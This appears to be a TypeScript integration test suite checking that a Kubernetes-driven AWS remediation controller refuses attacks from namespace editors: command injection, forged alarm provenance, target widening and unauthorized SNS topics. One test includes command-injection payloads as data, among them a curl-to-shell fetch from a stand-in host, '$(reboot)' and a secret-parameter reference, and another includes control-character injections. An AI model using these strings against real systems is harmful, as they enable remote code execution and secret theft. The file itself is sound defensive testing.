/**
 * The trust model, second round (issue 19, items 3-7b): values an editor or a sender
 * supplies, where an alarm comes from, and the fields that would weaken another team's
 * guarantee. Each attack is made the way a user with ordinary rights would make it,
 * against the real kube-apiserver (the chart's RBAC) and moto behind a recording proxy,
 * and each asserts the refusal AND that the emulator never received the SendCommand or
 * Publish it was after. Each also has a control that shows the same path does reach AWS
 * when nothing is wrong, so a refusal cannot pass by accident.
 *
 *   mallory  namespace editor in team-a and in the namespace with no runbook
 *   bob      editor and approver in team-a
 *   the admin writes Runbooks, the controller flags and the SNS allowlist.
 */
import { randomUUID } from 'node:crypto';
import { CreateTopicCommand, SNSClient } from '@aws-sdk/client-sns';
import { pino } from 'pino';
import { Registry } from 'prom-client';
import { CustomObjectsApi } from '@kubernetes/client-node';
import { GROUP, VERSION, type AlertPolicy, type RemediationRequest } from '../../src/api/v1alpha1/index.js';
import { KubeIntakeApi } from '../../src/intake/kube.js';
import { IntakeServer } from '../../src/intake/server.js';
import { ACCOUNT_ID, seedClientConfig, seedInstances } from '../testbed/aws.js';
import { startFaultProxy, type FaultProxy } from '../testbed/faultproxy.js';
import { Resources, startController, testbedFromEnv, waitFor, type RunningController } from './harness.js';
import { grant, installChart, namespace, SCOPE_LABEL, suffix, type InstalledChart } from './install-chart.js';
import {
  cloudWatchAlarm,
  listRequests,
  send,
  signSns,
  snsSigningIdentity,
  TestCertificateSource,
  type UnsignedSns,
} from './intake-harness.js';

const REGION = 'ap-southeast-7';
const id = suffix();
const TEAM_A = `tv-a-${id}`;
/** A namespace no runbook is granted to. */
const BARE = `tv-bare-${id}`;
const TENANT_LABEL = `tv-tenant-${id}`;
/** Another AWS account: the alarm's, not the controller's. */
const ACCOUNT_B = '999999999999';
const topicOf = (name: string, account = ACCOUNT_ID, region = REGION) => `arn:aws:sns:${region}:${account}:${name}`;

describe('trust model: values, provenance and admin-owned fields', () => {
  const tb = testbedFromEnv();
  const admin = new Resources(tb.admin());
  const as = (user: string) => new Resources(tb.as(user));
  let chart: InstalledChart;
  let proxy: FaultProxy;
  let controller: RunningController;
  let n = 0;
  const RESTART = `tv-restart-${id}`;
  const OPEN = `tv-open-${id}`;
  const PAGE = `tv-page-${id}`;
  const CW = `tv-cw-${id}`;
  const OURS = topicOf(`team-a-${id}`);
  const THEIRS = topicOf(`team-b-${id}`);
  const PAGE_TOPIC = topicOf(`page-${id}`);

  async function instance(tags: Record<string, string> = {}): Promise<string> {
    const [iid] = await seedInstances(tb.motoEndpoint, { region: REGION, tags: { team: TEAM_A, ...tags } });
    return iid!;
  }

  async function policy(ns: string, spec: Partial<AlertPolicy['spec']>, user = 'mallory'): Promise<string> {
    const name = `p${++n}`;
    await as(user).createPolicy(ns, name, { targets: { fromLabels: ['instance_id'] }, runbookRef: { name: RESTART }, ...spec });
    return name;
  }

  async function request(
    ns: string,
    policyName: string,
    alert: Partial<RemediationRequest['spec']['alert']>,
    extra: Partial<RemediationRequest['spec']> = {},
    user = 'mallory',
  ): Promise<RemediationRequest> {
    return as(user).createRequest(ns, `r${++n}`, {
      policyRef: { name: policyName },
      alert: { source: 'alertmanager', name: 'NginxDown', status: 'firing', ...alert, labels: { service: 'nginx', ...alert.labels } },
      requestedBy: user,
      ...extra,
    });
  }

  /** SendCommand calls that carry this request (its uid is in the command's comment). */
  const sendsFor = (rr: RemediationRequest) => proxy.calls('SendCommand').filter((c) => c.body.includes(rr.metadata!.uid!));
  /** Publish calls to `topic` (the query protocol form-encodes the ARN). */
  const publishesTo = (topic: string) =>
    proxy.calls('Publish').filter((c) => c.body.includes(encodeURIComponent(topic)) || c.body.includes(topic));

  async function readyOf(ns: string, name: string) {
    return waitFor(`Ready of ${ns}/${name}`, async () => {
      const got = await admin.getPolicy(ns, name);
      const c = got.status?.conditions?.find((x) => x.type === 'Ready');
      return c && c.observedGeneration === got.metadata?.generation ? c : undefined;
    });
  }

  beforeAll(async () => {
    chart = await installChart(tb, { release: `tv${id}`, namespace: `rmd-tv-system-${id}`, scope: id });
    await namespace(tb, TEAM_A, { [SCOPE_LABEL]: id, [TENANT_LABEL]: 'true' });
    await namespace(tb, BARE, { [SCOPE_LABEL]: id });
    for (const ns of [TEAM_A, BARE]) await grant(tb, ns, 'mallory', `${chart.fullname}-editor`);
    await grant(tb, TEAM_A, 'bob', `${chart.fullname}-editor`);
    await grant(tb, TEAM_A, 'bob', `${chart.fullname}-approver`);
    const tenants = { matchLabels: { [TENANT_LABEL]: 'true' } };
    const scope = { tagSelector: { team: '{{ namespace }}' } };
    await admin.createRunbook(RESTART, {
      minRisk: 'Low',
      namespaceSelector: tenants,
      scope,
      inputs: [{ name: 'service', allowedPattern: 'nginx|php-fpm' }],
      notifyTopics: [OURS],
      action: { ssm: { parameters: [{ name: 'commands', values: ['systemctl restart {{ inputs.service }}'] }] } },
    });
    // Item 3's ground: an input without a pattern of its own, and a parameter widened to anything.
    await admin.createRunbook(OPEN, {
      minRisk: 'Low',
      namespaceSelector: tenants,
      scope,
      inputs: [{ name: 'service' }],
      action: {
        ssm: { parameters: [{ name: 'commands', allowedPattern: '(?s).*', values: ['systemctl restart {{ inputs.service }}'] }] },
      },
    });
    await admin.createRunbook(PAGE, {
      minRisk: 'Low',
      namespaceSelector: tenants,
      scope,
      action: {
        sns: {
          topicArn: PAGE_TOPIC,
          subject: 'Alert {{ alert.name }}',
          message: 'Please look at {{ labels.instance_id }}: {{ annotations.description }}',
          messageAttributes: { severity: '{{ labels.severity }}' },
        },
      },
    });
    await admin.createRunbook(CW, {
      minRisk: 'Low',
      namespaceSelector: tenants,
      scope,
      action: { ssm: { parameters: [{ name: 'commands', values: ['systemctl restart nginx'] }] } },
    });
    const sns = new SNSClient(seedClientConfig(tb.motoEndpoint, REGION));
    try {
      for (const t of [OURS, THEIRS, PAGE_TOPIC]) await sns.send(new CreateTopicCommand({ Name: t.split(':').pop()! }));
    } finally {
      sns.destroy();
    }
    proxy = await startFaultProxy({ upstream: tb.motoEndpoint });
    controller = await startController(tb, {
      region: REGION,
      namespace: [TEAM_A, BARE],
      awsEndpoint: proxy.endpoint,
      args: ['--admission-policy-name', `${chart.fullname}-approvals`],
    });
  });

  afterAll(async () => {
    await controller?.stop();
    await proxy?.stop();
    for (const rb of [RESTART, OPEN, PAGE, CW]) await admin.deleteRunbook(rb).catch(() => undefined);
    await chart?.uninstall();
  });

  test('3. literal text in a policy input is held to the input rule (the default one when the runbook declares none)', async () => {
    const iid = await instance();
    // Control: the same runbook and a plain value run.
    const fine = await policy(TEAM_A, { runbookRef: { name: OPEN }, inputs: { service: 'nginx' } });
    const ok = await request(TEAM_A, fine, { labels: { instance_id: iid } });
    await admin.waitForPhase(TEAM_A, ok.metadata!.name!, 'Succeeded');
    expect(sendsFor(ok)).toHaveLength(1);

    const attacks = ['nginx; curl http://evil.example/x | sh', 'nginx $(reboot)', 'nginx {{ssm-secure:/prod/db-password}}'];
    for (const literal of attacks) {
      const p = await policy(TEAM_A, { runbookRef: { name: OPEN }, inputs: { service: literal } });
      expect(await readyOf(TEAM_A, p)).toMatchObject({ status: 'False' });
      const rr = await request(TEAM_A, p, { labels: { instance_id: iid } });
      const done = await admin.waitForPhase(TEAM_A, rr.metadata!.name!, 'Failed');
      expect(done.status?.message).toMatch(/inputs\.service/);
      expect(sendsFor(rr)).toHaveLength(0);
    }
    // The same value from an alert label was already refused, and still is.
    const fromLabel = await policy(TEAM_A, { runbookRef: { name: OPEN }, inputs: { service: '{{ labels.service }}' } });
    const rr = await request(TEAM_A, fromLabel, { labels: { instance_id: iid, service: 'nginx; reboot' } });
    expect((await admin.waitForPhase(TEAM_A, rr.metadata!.name!, 'Failed')).status?.reason).toBe('InvalidParameter');
    expect(sendsFor(rr)).toHaveLength(0);
  });

  test('4. control and bidirectional characters from an alert never reach an SNS subject, message or attribute', async () => {
    const iid = await instance();
    const p = await policy(TEAM_A, { runbookRef: { name: PAGE } });
    // Control: a clean alert is published.
    const ok = await request(TEAM_A, p, { labels: { instance_id: iid, severity: 'page' }, annotations: { description: 'disk full' } });
    await admin.waitForPhase(TEAM_A, ok.metadata!.name!, 'Succeeded');
    expect(publishesTo(PAGE_TOPIC).length).toBeGreaterThan(0);
    const clean = `Please look at ${iid}: disk full`;

    const hostile: Array<Partial<RemediationRequest['spec']['alert']>> = [
      { annotations: { description: 'disk full\nApproved-By: alice' } },
      { annotations: { description: 'disk full\r\nX: y' } },
      { annotations: { description: 'disk\tfull' } },
      { annotations: { description: 'disk full\u0085next line' } },
      { annotations: { description: 'disk full\u009b31m' } },
      { annotations: { description: 'fine \u202Etxt.exe' } },
      { annotations: { description: 'a\u2066b\u2069' } },
      { annotations: { description: 'ok' }, labels: { severity: 'page\u2028x' } },
      { annotations: { description: 'ok' }, name: 'Nginx\u0085Down' },
    ];
    for (const alert of hostile) {
      const rr = await request(TEAM_A, p, {
        ...alert,
        labels: { instance_id: iid, severity: 'page', ...alert.labels },
      });
      const done = await admin.waitForPhase(TEAM_A, rr.metadata!.name!, 'Failed');
      expect(done.status?.reason).toBe('InvalidParameter');
      expect(done.status?.message).toMatch(/control or bidirectional character U\+/);
    }
    // Everything the topic received is the control's message: no hostile one went out.
    const messages = publishesTo(PAGE_TOPIC).map((c) => (c.input as Record<string, string>)['Message']);
    expect(new Set(messages)).toEqual(new Set([clean]));
  });

  test('5. spec.targets cannot pick an instance the alert did not name, under labels plus a tag selector', async () => {
    const a1 = await instance({ role: 'web' });
    const a2 = await instance({ role: 'web' });
    const p = await policy(TEAM_A, {
      targets: { fromLabels: ['instance_id'], tagSelector: { role: 'web' } },
      inputs: { service: 'nginx' },
    });
    const rr = await request(TEAM_A, p, { labels: { instance_id: a1 } }, { targets: [a2] });
    const done = await admin.waitForPhase(TEAM_A, rr.metadata!.name!, 'Failed');
    expect(done.status?.reason).toBe('TargetNotAllowed');
    expect(done.status?.message).toContain(a2);
    expect(sendsFor(rr)).toHaveLength(0);
    // Control: narrowing to what the alert names runs.
    const narrowed = await request(TEAM_A, p, { labels: { instance_id: a1 } }, { targets: [a1] });
    expect((await admin.waitForPhase(TEAM_A, narrowed.metadata!.name!, 'Succeeded')).status?.targets).toEqual([a1]);
    expect(sendsFor(narrowed)).toHaveLength(1);
  });

  describe('6. alarm provenance', () => {
    const signer = snsSigningIdentity();
    const TOPIC_OWN = topicOf('alarms');
    const TOPIC_B = topicOf('alarms', ACCOUNT_B);
    let intake: IntakeServer;
    let url: string;
    let policies: AlertPolicy[] = [];
    let cwPolicy: string;

    const deliver = (env: object) =>
      send(url, {
        path: '/v1/alerts/sns',
        body: JSON.stringify(env),
        headers: {
          'content-type': 'text/plain; charset=UTF-8',
          'user-agent': 'Amazon Simple Notification Service Agent',
          'x-amz-sns-message-type': 'Notification',
          'x-amz-sns-message-id': (env as { MessageId: string }).MessageId,
          'x-amz-sns-topic-arn': (env as { TopicArn: string }).TopicArn,
        },
      });
    const notification = (alarm: object, topic: string): UnsignedSns => ({
      Type: 'Notification',
      MessageId: randomUUID(),
      TopicArn: topic,
      Subject: 'ALARM',
      Message: JSON.stringify(alarm),
      Timestamp: new Date().toISOString(),
      UnsubscribeURL: `https://sns.${REGION}.amazonaws.com/?Action=Unsubscribe&SubscriptionArn=${topic}:x`,
    });
    const alarm = (name: string, instanceId: string, account: string, over: Record<string, unknown> = {}) => ({
      ...cloudWatchAlarm({ name, state: 'ALARM', instanceId, changedAt: new Date().toISOString(), region: REGION, account }),
      ...over,
    });
    const requestsOf = async (alarmName: string) => (await listRequests(tb.admin(), TEAM_A)).filter((r) => r.spec.alert.name === alarmName);

    beforeAll(async () => {
      cwPolicy = await policy(
        TEAM_A,
        {
          match: { sources: ['cloudwatch'], labels: [{ name: 'alertname', op: '=~', value: `tv-${id}-.*` }] },
          targets: { fromDimensions: ['InstanceId'] },
          runbookRef: { name: CW },
        },
        'bob',
      );
      const custom = tb.admin().makeApiClient(CustomObjectsApi);
      const list = (await custom.listNamespacedCustomObject({
        group: GROUP,
        version: VERSION,
        namespace: TEAM_A,
        plural: 'alertpolicies',
      })) as {
        items: AlertPolicy[];
      };
      policies = list.items.filter((p) => p.metadata?.name === cwPolicy);
      intake = new IntakeServer({
        bindAddress: '127.0.0.1:0',
        kube: new KubeIntakeApi(tb.admin()),
        policies: () => policies,
        watchNamespaces: [TEAM_A],
        cacheSynced: () => true,
        logger: pino({ level: 'silent' }),
        registry: new Registry(),
        // Both topics are the admin's: the alarm from account B comes through B's own topic.
        snsTopicAllowlist: new Set([TOPIC_OWN, TOPIC_B]),
        certificates: new TestCertificateSource(signer.x509),
      });
      await intake.start();
      url = `http://127.0.0.1:${intake.port}`;
      await waitFor('intake ready', async () => intake.ready);
    });

    afterAll(async () => {
      await intake?.stop();
    });

    test("a signed alarm from account B never runs in the controller's own account (runbook without scope.account)", async () => {
      const iid = await instance();
      // Control: the same alarm from the controller's own account runs.
      const own = `tv-${id}-own`;
      expect((await deliver(signSns(notification(alarm(own, iid, ACCOUNT_ID), TOPIC_OWN), signer.key))).status).toBe(200);
      const [ran] = await waitFor('the own-account request', async () => {
        const got = await requestsOf(own);
        return got.length > 0 && got;
      });
      await admin.waitForPhase(TEAM_A, ran!.metadata!.name!, 'Succeeded');
      expect(sendsFor(ran!)).toHaveLength(1);

      const foreign = `tv-${id}-foreign`;
      expect((await deliver(signSns(notification(alarm(foreign, iid, ACCOUNT_B), TOPIC_B), signer.key))).status).toBe(200);
      const [rr] = await waitFor('the account-B request', async () => {
        const got = await requestsOf(foreign);
        return got.length > 0 && got;
      });
      expect(rr!.spec.alert).toMatchObject({ account: ACCOUNT_B, region: REGION });
      const done = await admin.waitForPhase(TEAM_A, rr!.metadata!.name!, 'Failed');
      expect(done.status?.reason).toBe('LocationNotAllowed');
      expect(done.status?.message).toContain(`account ${ACCOUNT_B}`);
      expect(done.status?.message).toContain(`own account ${ACCOUNT_ID}`);
      expect(sendsFor(rr!)).toHaveLength(0);
    });

    test('an alarm whose account is missing, malformed or inconsistent is refused at the intake with 422, and creates nothing', async () => {
      const iid = await instance();
      const cases: Array<[string, (name: string) => object, string]> = [
        ['empty AWSAccountId', (name) => alarm(name, iid, ACCOUNT_ID, { AWSAccountId: '' }), TOPIC_OWN],
        ['malformed AWSAccountId', (name) => alarm(name, iid, ACCOUNT_ID, { AWSAccountId: 'abc' }), TOPIC_OWN],
        ['no AWSAccountId', (name) => alarm(name, iid, ACCOUNT_ID, { AWSAccountId: undefined }), TOPIC_OWN],
        ['AWSAccountId and ARN disagree', (name) => alarm(name, iid, ACCOUNT_ID, { AWSAccountId: ACCOUNT_B }), TOPIC_OWN],
        [
          'upper-case region in the ARN',
          (name) => alarm(name, iid, ACCOUNT_ID, { AlarmArn: `arn:aws:cloudwatch:${REGION.toUpperCase()}:${ACCOUNT_ID}:alarm:${name}` }),
          TOPIC_OWN,
        ],
        ["an account-B alarm through the controller account's topic", (name) => alarm(name, iid, ACCOUNT_B), TOPIC_OWN],
        ["an own-account alarm through account B's topic", (name) => alarm(name, iid, ACCOUNT_ID), TOPIC_B],
      ];
      for (const [what, make, topic] of cases) {
        const name = `tv-${id}-bad${++n}`;
        const answer = await deliver(signSns(notification(make(name), topic), signer.key));
        expect({ what, status: answer.status }).toEqual({ what, status: 422 });
        expect(await requestsOf(name)).toHaveLength(0);
      }
    });

    test('an editor creating a CloudWatch request without a place, or with one the runbook does not act in, is refused', async () => {
      const iid = await instance();
      const cases: Array<Partial<RemediationRequest['spec']['alert']>> = [
        { source: 'cloudwatch', labels: { InstanceId: iid } },
        { source: 'cloudwatch', labels: { InstanceId: iid }, region: REGION },
        { source: 'cloudwatch', labels: { InstanceId: iid }, account: ACCOUNT_B, region: REGION },
      ];
      for (const alert of cases) {
        const rr = await request(TEAM_A, cwPolicy, { name: `tv-${id}-direct`, ...alert });
        const done = await admin.waitForPhase(TEAM_A, rr.metadata!.name!, 'Failed');
        expect(done.status?.reason).toMatch(/^(AlertLocationUnknown|LocationNotAllowed)$/);
        expect(sendsFor(rr)).toHaveLength(0);
      }
    });
  });

  test("7a. renaming the policy's opt-out tag does not release an instance carrying the admin's opt-out tag", async () => {
    const iid = await instance({ 'remediator.dev/opt-out': 'true' });
    const p = await policy(TEAM_A, { inputs: { service: 'nginx' }, enrichment: { optOutTag: { key: 'renamed-by-editor', value: 'x' } } });
    const rr = await request(TEAM_A, p, { labels: { instance_id: iid } });
    const done = await admin.waitForPhase(TEAM_A, rr.metadata!.name!, 'Skipped');
    expect(done.status?.reason).toBe('OptOut');
    expect(done.status?.message).toContain('remediator.dev/opt-out=true');
    expect(sendsFor(rr)).toHaveLength(0);
    // A policy's own tag still adds an opt-out.
    const own = await instance({ 'renamed-by-editor': 'x' });
    const added = await request(TEAM_A, p, { labels: { instance_id: own } });
    expect((await admin.waitForPhase(TEAM_A, added.metadata!.name!, 'Skipped')).status?.reason).toBe('OptOut');
    expect(sendsFor(added)).toHaveLength(0);
  });

  test('7b. a policy cannot announce on a topic its runbook does not grant, with or without a runbook', async () => {
    const iid = await instance();
    // Control: the granted topic is announced on.
    const granted = await policy(TEAM_A, { inputs: { service: 'nginx' }, notify: { topicArn: OURS, on: ['Succeeded', 'Failed'] } });
    expect(await readyOf(TEAM_A, granted)).toMatchObject({ status: 'True' });
    const ok = await request(TEAM_A, granted, { labels: { instance_id: iid } });
    await admin.waitForPhase(TEAM_A, ok.metadata!.name!, 'Succeeded');
    await waitFor('the granted announcement', async () => publishesTo(OURS).length === 1);

    // A namespace with no runbook at all, and a granted runbook that does not list the topic.
    const bare = await policy(BARE, { inputs: { service: 'nginx' }, notify: { topicArn: THEIRS, on: ['Failed'] } });
    expect(await readyOf(BARE, bare)).toMatchObject({ status: 'False', reason: 'RunbookNotGranted' });
    const ungranted = await policy(TEAM_A, { inputs: { service: 'nginx' }, notify: { topicArn: THEIRS, on: ['Failed', 'Succeeded'] } });
    expect(await readyOf(TEAM_A, ungranted)).toMatchObject({ status: 'False', reason: 'NotifyTopicNotGranted' });
    for (const [ns, p] of [
      [BARE, bare],
      [TEAM_A, ungranted],
    ] as const) {
      const rr = await request(ns, p, { labels: { instance_id: iid } });
      await admin.waitForPhase(ns, rr.metadata!.name!, 'Failed');
      expect(sendsFor(rr)).toHaveLength(0);
    }
    // Give a notification every chance to go out before saying none did.
    await new Promise((r) => setTimeout(r, 2_000));
    expect(publishesTo(THEIRS)).toHaveLength(0);
  });
});
